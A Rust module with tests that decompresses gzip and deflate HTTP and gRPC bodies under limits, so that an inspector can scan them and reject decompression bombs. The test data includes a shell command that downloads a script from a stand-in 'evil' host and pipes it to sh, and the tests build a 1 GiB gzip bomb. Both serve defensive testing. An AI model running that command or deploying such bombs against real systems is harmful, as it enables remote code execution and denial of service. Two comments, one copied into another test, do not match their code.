//! Bounded decompression of HTTP `Content-Encoding` bodies and compressed gRPC messages.
//!
//! # Why
//!
//! An inspector that scans only the bytes on the wire is blind to anything the client chose to
//! gzip, and the upstream will happily inflate it. So picket decodes before it inspects. But a
//! decoder that inflates whatever it is given is a denial-of-service lever: 1 GiB of zeros
//! compresses to about 1 MiB of gzip (and nests to a few KiB with two layers). Every function
//! here therefore decompresses *while counting*: the output is produced in fixed-size reads and
//! the decode stops, with [`DecodeError::Bomb`], the moment it would exceed
//! [`DecodeLimits::max_output`] or the expansion ratio [`DecodeLimits::max_ratio`]. The bomb is
//! detected, never materialised.
//!
//! # Cost
//!
//! Memory for one layer is at most `max_output` plus one read buffer ([`READ_CHUNK`] bytes): the
//! output `Vec` is grown by hand, never past `max_output`, so `Vec`'s doubling cannot overshoot.
//! With stacked codings the previous layer's output is alive while the next layer decodes, so
//! the peak is about `2 × max_output`. Time is linear in the decompressed size, which is bounded
//! by `max_output` per layer.
//!
//! # What is accepted
//!
//! * `gzip` / `x-gzip`: every member of a multi-member stream is decoded (as Go's and zlib's
//!   readers do; stopping after the first member would let a payload hide in the second).
//! * `deflate`: RFC 9110 says zlib-wrapped, but some clients send raw deflate. The zlib header
//!   is checked and, if it is not one (or the zlib decode fails as corrupt), the input is decoded
//!   as raw deflate.
//! * `identity`: passes through and does not count as a layer.
//!
//! Anything else (`br`, `zstd`, `compress`, …) is [`DecodeError::UnknownCoding`]: the caller
//! cannot inspect what it cannot decode, and reports [`Anomaly::ContentDecodingFailed`].
//!
//! The expansion-ratio test is applied only once the output of a layer exceeds
//! [`RATIO_FLOOR`] bytes: small, very repetitive bodies (a few KiB of spaces or of one JSON
//! key repeated) legitimately compress by more than 100× and inflating them costs nothing.

use std::io::Read;

use flate2::read::{DeflateDecoder, MultiGzDecoder, ZlibDecoder};
use picket_signatures::Anomaly;

/// Size of one decompression read, and so the most a decode can overshoot `max_output` by.
pub const READ_CHUNK: usize = 16 * 1024;

/// Output size below which the expansion ratio is not checked (see the module docs).
pub const RATIO_FLOOR: usize = 64 * 1024;

/// One content coding, as named in `Content-Encoding` or `grpc-encoding`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ContentCoding {
    /// No transformation.
    Identity,
    /// gzip (RFC 1952); `x-gzip` is an alias.
    Gzip,
    /// zlib-wrapped deflate (RFC 1950), raw deflate (RFC 1951) also accepted.
    Deflate,
}

impl ContentCoding {
    /// Parses a `Content-Encoding` (or `grpc-encoding`) field value: a comma-separated list,
    /// case-insensitive, optional whitespace around the elements, empty elements ignored. The
    /// list is returned in the order it was written, i.e. the order the codings were applied.
    pub fn from_header(value: &[u8]) -> Result<Vec<ContentCoding>, DecodeError> {
        let mut out = Vec::new();
        for item in value.split(|&b| b == b',') {
            let item = trim_ows(item);
            if item.is_empty() {
                continue;
            }
            out.push(ContentCoding::from_token(item)?);
        }
        Ok(out)
    }

    /// Parses one coding name (`gzip`, `x-gzip`, `deflate`, `identity`), case-insensitive.
    pub fn from_token(token: &[u8]) -> Result<ContentCoding, DecodeError> {
        let token = trim_ows(token);
        if token.eq_ignore_ascii_case(b"gzip") || token.eq_ignore_ascii_case(b"x-gzip") {
            Ok(ContentCoding::Gzip)
        } else if token.eq_ignore_ascii_case(b"deflate") {
            Ok(ContentCoding::Deflate)
        } else if token.eq_ignore_ascii_case(b"identity") {
            Ok(ContentCoding::Identity)
        } else {
            Err(DecodeError::UnknownCoding(
                String::from_utf8_lossy(&token[..token.len().min(64)]).into_owned(),
            ))
        }
    }
}

fn trim_ows(mut s: &[u8]) -> &[u8] {
    while let [b' ' | b'\t', rest @ ..] = s {
        s = rest;
    }
    while let [rest @ .., b' ' | b'\t'] = s {
        s = rest;
    }
    s
}

/// Bounds on one decode, whatever the input.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DecodeLimits {
    /// Largest decoded output of any layer, in bytes. Default 8 MiB.
    pub max_output: usize,
    /// Largest allowed `output / input` ratio of any layer (checked once the output passes
    /// [`RATIO_FLOOR`]). Default 100.
    pub max_ratio: u32,
    /// Most non-identity codings applied to one body. Default 2.
    pub max_layers: usize,
}

impl Default for DecodeLimits {
    fn default() -> Self {
        DecodeLimits {
            max_output: 8 * 1024 * 1024,
            max_ratio: 100,
            max_layers: 2,
        }
    }
}

/// Why a body could not be decoded.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum DecodeError {
    /// The output passed `max_output`, or `output / input` passed `max_ratio`. `output` is how
    /// much had been decoded when the decode stopped (not the size the bomb would reach).
    #[error("decompression bomb: {output} bytes out of {input} bytes in")]
    Bomb { output: usize, input: usize },
    /// The compressed stream is invalid or truncated.
    #[error("corrupt compressed data: {0}")]
    Corrupt(String),
    /// A coding picket does not decode.
    #[error("unknown content coding {0:?}")]
    UnknownCoding(String),
    /// More stacked codings than `max_layers`; the count is how many were listed.
    #[error("{0} stacked content codings")]
    TooManyLayers(usize),
}

impl DecodeError {
    /// The protocol anomaly a decode failure is reported as.
    pub fn anomaly(&self) -> Anomaly {
        match self {
            DecodeError::Bomb { .. } => Anomaly::CompressionBomb,
            DecodeError::TooManyLayers(_) => Anomaly::TooManyEncodingLayers,
            DecodeError::Corrupt(_) | DecodeError::UnknownCoding(_) => {
                Anomaly::ContentDecodingFailed
            }
        }
    }
}

/// Decodes `input`, to which `codings` were applied in the order listed (so they are undone
/// last to first, as RFC 9110 §8.4 says). `Identity` entries are skipped and do not count
/// toward `max_layers`.
pub fn decode(
    codings: &[ContentCoding],
    input: &[u8],
    limits: &DecodeLimits,
) -> Result<Vec<u8>, DecodeError> {
    let layers = codings
        .iter()
        .filter(|c| **c != ContentCoding::Identity)
        .count();
    if layers > limits.max_layers {
        return Err(DecodeError::TooManyLayers(layers));
    }
    let mut current: Option<Vec<u8>> = None;
    for coding in codings.iter().rev() {
        let src: &[u8] = current.as_deref().unwrap_or(input);
        if src.is_empty() {
            // An empty body with a Content-Encoding is common (and harmless): not corrupt.
            continue;
        }
        let next = match coding {
            ContentCoding::Identity => continue,
            ContentCoding::Gzip => bounded_read(MultiGzDecoder::new(src), src.len(), limits)?,
            ContentCoding::Deflate => decode_deflate(src, limits)?,
        };
        current = Some(next);
    }
    Ok(current.unwrap_or_else(|| {
        // Only identity codings: the body is the input, still bounded by max_output.
        input.to_vec()
    }))
}

/// zlib first when the header says zlib, raw deflate otherwise or when zlib finds the stream
/// corrupt (a raw stream can start with two bytes that happen to form a valid zlib header).
fn decode_deflate(src: &[u8], limits: &DecodeLimits) -> Result<Vec<u8>, DecodeError> {
    if looks_like_zlib(src) {
        match bounded_read(ZlibDecoder::new(src), src.len(), limits) {
            Err(DecodeError::Corrupt(_)) => {}
            other => return other,
        }
    }
    bounded_read(DeflateDecoder::new(src), src.len(), limits)
}

/// RFC 1950 header: CM = 8, CINFO ≤ 7, and the 16-bit header a multiple of 31.
fn looks_like_zlib(src: &[u8]) -> bool {
    match src {
        [cmf, flg, ..] => {
            cmf & 0x0f == 8 && cmf >> 4 <= 7 && (u16::from(*cmf) << 8 | u16::from(*flg)) % 31 == 0
        }
        _ => false,
    }
}

/// Reads `reader` to the end in [`READ_CHUNK`] pieces, stopping as soon as the output would
/// pass `max_output` or the ratio limit. The output `Vec` never grows past `max_output`.
fn bounded_read<R: Read>(
    mut reader: R,
    input_len: usize,
    limits: &DecodeLimits,
) -> Result<Vec<u8>, DecodeError> {
    let mut out: Vec<u8> = Vec::new();
    let mut chunk = vec![0u8; READ_CHUNK];
    let ratio_cap = input_len.saturating_mul(limits.max_ratio as usize);
    loop {
        let n = match reader.read(&mut chunk) {
            Ok(0) => return Ok(out),
            Ok(n) => n,
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
            Err(e) => return Err(DecodeError::Corrupt(e.to_string())),
        };
        let total = out.len().saturating_add(n);
        if total > limits.max_output || (total > RATIO_FLOOR && total > ratio_cap) {
            return Err(DecodeError::Bomb {
                output: total,
                input: input_len,
            });
        }
        if total > out.capacity() {
            let want = out
                .capacity()
                .saturating_mul(2)
                .max(total)
                .min(limits.max_output);
            out.reserve_exact(want - out.len());
        }
        out.extend_from_slice(chunk.get(..n).unwrap_or_default());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
    use flate2::Compression;
    use std::io::Write;

    fn gzip(data: &[u8]) -> Vec<u8> {
        let mut e = GzEncoder::new(Vec::new(), Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    fn zlib(data: &[u8]) -> Vec<u8> {
        let mut e = ZlibEncoder::new(Vec::new(), Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    fn raw_deflate(data: &[u8]) -> Vec<u8> {
        let mut e = DeflateEncoder::new(Vec::new(), Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    const BODY: &[u8] = b"{\"cmd\":\"/bin/sh -c 'curl http://evil/x | sh'\"}";

    #[test]
    fn header_parsing() {
        use ContentCoding::*;
        assert_eq!(ContentCoding::from_header(b"gzip").unwrap(), vec![Gzip]);
        assert_eq!(
            ContentCoding::from_header(b" X-GZIP , Deflate,,identity ").unwrap(),
            vec![Gzip, Deflate, Identity]
        );
        assert_eq!(ContentCoding::from_header(b"").unwrap(), vec![]);
        assert_eq!(
            ContentCoding::from_header(b"gzip, br"),
            Err(DecodeError::UnknownCoding("br".into()))
        );
        assert_eq!(
            DecodeError::UnknownCoding("br".into()).anomaly(),
            Anomaly::ContentDecodingFailed
        );
    }

    #[test]
    fn gzip_round_trip() {
        let out = decode(
            &[ContentCoding::Gzip],
            &gzip(BODY),
            &DecodeLimits::default(),
        )
        .unwrap();
        assert_eq!(out, BODY);
    }

    #[test]
    fn multi_member_gzip_decodes_every_member() {
        let mut z = gzip(b"harmless ");
        z.extend(gzip(b"/bin/sh"));
        let out = decode(&[ContentCoding::Gzip], &z, &DecodeLimits::default()).unwrap();
        assert_eq!(out, b"harmless /bin/sh");
    }

    #[test]
    fn deflate_accepts_zlib_and_raw() {
        let limits = DecodeLimits::default();
        let a = decode(&[ContentCoding::Deflate], &zlib(BODY), &limits).unwrap();
        let b = decode(&[ContentCoding::Deflate], &raw_deflate(BODY), &limits).unwrap();
        assert_eq!(a, BODY);
        assert_eq!(b, BODY);
    }

    #[test]
    fn layers_are_undone_in_reverse() {
        // Content-Encoding: deflate, gzip  => deflate applied first, then gzip.
        let wire = gzip(&zlib(BODY));
        let out = decode(
            &[ContentCoding::Deflate, ContentCoding::Gzip],
            &wire,
            &DecodeLimits::default(),
        )
        .unwrap();
        assert_eq!(out, BODY);
    }

    #[test]
    fn too_many_layers() {
        let c = [
            ContentCoding::Gzip,
            ContentCoding::Gzip,
            ContentCoding::Gzip,
        ];
        let err = decode(&c, b"", &DecodeLimits::default()).unwrap_err();
        assert_eq!(err, DecodeError::TooManyLayers(3));
        assert_eq!(err.anomaly(), Anomaly::TooManyEncodingLayers);
        // identity does not count
        let c = [
            ContentCoding::Identity,
            ContentCoding::Gzip,
            ContentCoding::Identity,
        ];
        assert_eq!(
            decode(&c, &gzip(b"x"), &DecodeLimits::default()).unwrap(),
            b"x"
        );
    }

    #[test]
    fn identity_only_passes_through() {
        let out = decode(&[ContentCoding::Identity], BODY, &DecodeLimits::default()).unwrap();
        assert_eq!(out, BODY);
        assert_eq!(decode(&[], BODY, &DecodeLimits::default()).unwrap(), BODY);
        let empty = decode(&[ContentCoding::Gzip], b"", &DecodeLimits::default()).unwrap();
        assert!(empty.is_empty());
    }

    #[test]
    fn corrupt_and_truncated() {
        let err = decode(
            &[ContentCoding::Gzip],
            b"not gzip at all",
            &DecodeLimits::default(),
        )
        .unwrap_err();
        assert!(matches!(err, DecodeError::Corrupt(_)), "{err:?}");
        assert_eq!(err.anomaly(), Anomaly::ContentDecodingFailed);
        let z = gzip(&[b'a'; 10_000]);
        let err = decode(
            &[ContentCoding::Gzip],
            &z[..z.len() / 2],
            &DecodeLimits::default(),
        )
        .unwrap_err();
        assert!(matches!(err, DecodeError::Corrupt(_)), "{err:?}");
    }

    /// A gzip stream of 1 GiB of zeros, built without ever holding the 1 GiB: one raw deflate
    /// block sequence for 1 MiB of zeros (self-contained, so it can be repeated), 1024 times.
    fn gzip_bomb_1gib() -> Vec<u8> {
        use flate2::{Compress, FlushCompress};
        let mut c = Compress::new(Compression::best(), false);
        let mut blocks = Vec::with_capacity(64 * 1024);
        c.compress_vec(&vec![0u8; 1 << 20], &mut blocks, FlushCompress::Sync)
            .unwrap();
        let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
        for _ in 0..1024 {
            out.extend_from_slice(&blocks);
        }
        out.extend_from_slice(&[0x03, 0x00]); // final empty fixed-Huffman block
        out.extend_from_slice(&[0, 0, 0, 0]); // CRC32, never reached
        out.extend_from_slice(&0u32.to_le_bytes()); // ISIZE = 2^30 mod 2^32
        out
    }

    /// 1 GiB of zeros compressed is refused after at most `max_output + READ_CHUNK` bytes.
    #[test]
    fn gzip_bomb_of_one_gib_is_refused_without_inflating_it() {
        let bomb = gzip_bomb_1gib();
        assert!(bomb.len() < 2 << 20, "bomb is {} bytes", bomb.len());
        let limits = DecodeLimits::default();
        let err = decode(&[ContentCoding::Gzip], &bomb, &limits).unwrap_err();
        match err {
            DecodeError::Bomb { output, input } => {
                assert!(output <= limits.max_output + READ_CHUNK);
                assert_eq!(input, bomb.len());
            }
            other => panic!("expected bomb, got {other:?}"),
        }
        assert_eq!(err.anomaly(), Anomaly::CompressionBomb);
        // With the ratio limit lifted it is still a bomb, caught by max_output, and the stream
        // is well-formed at least that far.
        let lax = DecodeLimits {
            max_output: 8 << 20,
            max_ratio: u32::MAX,
            max_layers: 2,
        };
        let err = decode(&[ContentCoding::Gzip], &bomb, &lax).unwrap_err();
        assert!(
            matches!(err, DecodeError::Bomb { output, .. } if output > 8 << 20),
            "{err:?}"
        );
        // Nested: the bomb gzipped again is caught as well.
        let double = gzip(&bomb);
        let err = decode(
            &[ContentCoding::Gzip, ContentCoding::Gzip],
            &double,
            &limits,
        )
        .unwrap_err();
        assert!(matches!(err, DecodeError::Bomb { .. }), "{err:?}");
    }

    #[test]
    fn ratio_limit() {
        // 1 MiB of zeros is ~1 KiB of gzip: under max_output, far over a ratio of 100.
        let z = gzip(&vec![0u8; 1 << 20]);
        let err = decode(&[ContentCoding::Gzip], &z, &DecodeLimits::default()).unwrap_err();
        assert!(matches!(err, DecodeError::Bomb { .. }), "{err:?}");
        // With the ratio limit lifted it is still a bomb, caught by max_output, and the stream
        // is well-formed at least that far.
        let lax = DecodeLimits {
            max_ratio: u32::MAX,
            ..DecodeLimits::default()
        };
        assert_eq!(
            decode(&[ContentCoding::Gzip], &z, &lax).unwrap().len(),
            1 << 20
        );
        // Small repetitive bodies are below the ratio floor.
        let small = gzip(&[b' '; 8192]);
        assert!(decode(&[ContentCoding::Gzip], &small, &DecodeLimits::default()).is_ok());
    }

    #[test]
    fn max_output_is_exact() {
        let data = vec![7u8; 100_000];
        let z = gzip(&data);
        let limits = DecodeLimits {
            max_output: 100_000,
            max_ratio: u32::MAX,
            max_layers: 1,
        };
        assert_eq!(decode(&[ContentCoding::Gzip], &z, &limits).unwrap(), data);
        let limits = DecodeLimits {
            max_output: 99_999,
            ..limits
        };
        assert!(matches!(
            decode(&[ContentCoding::Gzip], &z, &limits),
            Err(DecodeError::Bomb { .. })
        ));
    }
}
